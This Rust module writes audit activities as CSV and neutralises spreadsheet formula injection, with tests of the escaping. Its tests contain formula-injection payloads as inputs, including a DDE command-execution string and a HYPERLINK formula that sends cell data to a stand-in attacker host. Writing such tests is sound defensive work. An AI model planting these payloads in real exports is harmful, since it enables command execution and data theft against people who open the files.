//! Activities as lines of CSV (RFC 4180), safe to open in a spreadsheet.
//!
//! Owns the columns and their escaping. Invariants: every line has [`COLUMNS`]; no field begins a formula. Spreadsheets
//! run a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return, some of them also behind quotes or blanks and in
//! the full-width forms of these characters; whoever may write an activity could reach whoever opens an export. Such
//! a field gets an apostrophe in front, which spreadsheets do not show. It can be undone: take one apostrophe away where what
//! follows it, quotes and blanks aside, begins so.

use crate::activity::{Activity, Entity};
use crate::text::Text;

/// The names in the first line.
pub const COLUMNS: [&str; 14] = [
    "id",
    "tenant",
    "occurred_at",
    "received_at",
    "action",
    "actor_type",
    "actor_id",
    "actor_name",
    "targets",
    "ip",
    "user_agent",
    "request_id",
    "correlation_id",
    "metadata",
];

/// Appends the line of names.
pub fn write_header(csv: &mut Vec<u8>) {
    csv.extend_from_slice(COLUMNS.join(",").as_bytes());
    csv.extend_from_slice(b"\r\n");
}

/// Appends the line of an activity; targets and metadata are JSON in a field.
pub fn write_row(csv: &mut Vec<u8>, activity: &Activity<'_>) {
    let actor = activity.actor.as_ref();
    let context = activity.context.as_ref();
    let targets = if activity.targets.is_empty() { String::new() } else { json(&activity.targets) };
    let (occurred_at, received_at) = (activity.occurred_at.to_string(), activity.received_at.to_string());
    let fields: [&str; COLUMNS.len()] = [
        &activity.id,
        &activity.tenant,
        &occurred_at,
        &received_at,
        &activity.action,
        text(actor.and_then(|actor| actor.kind.as_ref())),
        actor.map_or("", |actor| &actor.id),
        text(actor.and_then(|actor| actor.name.as_ref())),
        &targets,
        text(context.and_then(|context| context.ip.as_ref())),
        text(context.and_then(|context| context.user_agent.as_ref())),
        text(context.and_then(|context| context.request_id.as_ref())),
        text(context.and_then(|context| context.correlation_id.as_ref())),
        activity.metadata.as_ref().map_or("", |metadata| metadata.as_str()),
    ];
    for (at, field) in fields.into_iter().enumerate() {
        if at > 0 {
            csv.push(b',');
        }
        write_field(csv, field);
    }
    csv.extend_from_slice(b"\r\n");
}

fn text<'a>(text: Option<&'a Text<'_>>) -> &'a str {
    text.map_or("", Text::as_str)
}

fn json(targets: &[Entity<'_>]) -> String {
    // Strings cannot fail to serialise.
    serde_json::to_string(targets).unwrap_or_default()
}

fn write_field(csv: &mut Vec<u8>, field: &str) {
    let is_formula = begins_formula(field);
    let needs_quotes = is_formula
        || field.contains(['"', ',', '\r', '\n', ';', '\t'])
        || field.starts_with(char::is_whitespace)
        || field.ends_with(char::is_whitespace);
    if !needs_quotes {
        return csv.extend_from_slice(field.as_bytes());
    }
    csv.push(b'"');
    if is_formula {
        csv.push(b'\'');
    }
    for byte in field.bytes() {
        if byte == b'"' {
            csv.push(b'"');
        }
        csv.push(byte);
    }
    csv.push(b'"');
}

/// Whether a spreadsheet may run it, whatever quotes and blanks come first.
fn begins_formula(field: &str) -> bool {
    const BEGINNINGS: [char; 9] =
        ['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}', '\u{2212}'];
    let is_skipped =
        |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '\u{feff}' | '\u{2018}'..='\u{201f}');
    let rest = field.trim_start_matches(is_skipped);
    let skipped = &field[..field.len() - rest.len()];
    skipped.contains(['\t', '\r', '\n']) || rest.starts_with(BEGINNINGS)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::testing::activity;

    fn field(text: &str) -> String {
        let mut csv = Vec::new();
        write_field(&mut csv, text);
        String::from_utf8(csv).unwrap()
    }

    #[test]
    fn fields_are_quoted_where_they_must_be() {
        for (text, expected) in [
            ("", ""),
            ("plain text", "plain text"),
            ("a-b=c@d+e", "a-b=c@d+e"),
            ("a,b", "\"a,b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("two\r\nlines", "\"two\r\nlines\""),
            (" blank ", "\" blank \""),
            ("é", "é"),
        ] {
            assert_eq!(field(text), expected, "{text:?}");
        }
    }

    #[test]
    fn no_field_begins_a_formula() {
        for text in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\"=1+1\"",
            "'=1",
            " =1",
            "\"\t@x",
            "=cmd|' /C calc'!A0",
            "\u{ff1d}1",
            "\u{feff}=1",
            "\tx",
            "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
        ] {
            let found = field(text);
            assert!(found.starts_with("\"'"), "{text:?}: {found}");
            assert_eq!(found, format!("\"'{}\"", text.replace('"', "\"\"")));
        }
    }

    #[test]
    fn a_row_has_every_column() {
        let full = activity(
            r#"{"id":"1","tenant":"t","action":"a.b","actor":{"type":"user","id":"u","name":"=Ann, \"the\" one"},
                "targets":[{"id":"x"}],"context":{"ip":"::1","user_agent":"@x","request_id":"r","correlation_id":"c"},
                "metadata":{"a": [1, 2]},"occurred_at":"2013-01-01T00:00:00Z"}"#,
        );
        let bare = activity(r#"{"id":"-2","tenant":"t","action":"a"}"#);
        let mut csv = Vec::new();
        write_header(&mut csv);
        write_row(&mut csv, &full);
        write_row(&mut csv, &bare);
        assert_eq!(
            String::from_utf8(csv).unwrap(),
            "id,tenant,occurred_at,received_at,action,actor_type,actor_id,actor_name,targets,ip,user_agent,request_id,\
             correlation_id,metadata\r\n\
             1,t,2013-01-01T00:00:00Z,1970-01-01T00:00:00Z,a.b,user,u,\"'=Ann, \"\"the\"\" one\",\
             \"[{\"\"id\"\":\"\"x\"\"}]\",::1,\"'@x\",r,c,\"{\"\"a\"\": [1, 2]}\"\r\n\
             \"'-2\",t,1970-01-01T00:00:00Z,1970-01-01T00:00:00Z,a,,,,,,,,,\r\n"
        );
    }

    proptest! {
        #[test]
        fn a_quoted_field_reads_back(text in "[=+@ '\"a,\r\n\t-]{0,8}") {
            let written = field(&text);
            let unquoted = match written.strip_prefix('"') {
                Some(rest) => rest.strip_suffix('"').unwrap().replace("\"\"", "\""),
                None => written.clone(),
            };
            let read = match unquoted.strip_prefix('\'') {
                Some(rest) if begins_formula(rest) => rest.to_owned(),
                _ => unquoted.clone(),
            };
            prop_assert_eq!(&read, &text);
            prop_assert!(!unquoted.starts_with(['=', '+', '-', '@', '\t', '\r']));
        }
    }
}
